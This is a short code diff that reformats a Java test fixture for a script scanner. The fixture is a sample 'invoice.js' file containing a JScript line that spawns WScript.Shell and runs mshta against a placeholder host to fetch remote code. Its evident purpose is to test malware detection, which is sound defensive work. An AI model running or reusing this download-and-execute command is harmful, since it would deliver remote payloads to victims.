@@ -21,7 +21,9 @@ class ScriptScannerTest implements ScannerContract {
 
   @Override
   public Part found() {
-    return named("invoice.js", "var s = new ActiveXObject('WScript.Shell'); s.Run('mshta http://one.example/a');");
+    return named(
+        "invoice.js",
+        "var s = new ActiveXObject('WScript.Shell'); s.Run('mshta http://one.example/a');");
   }
 
   @Override
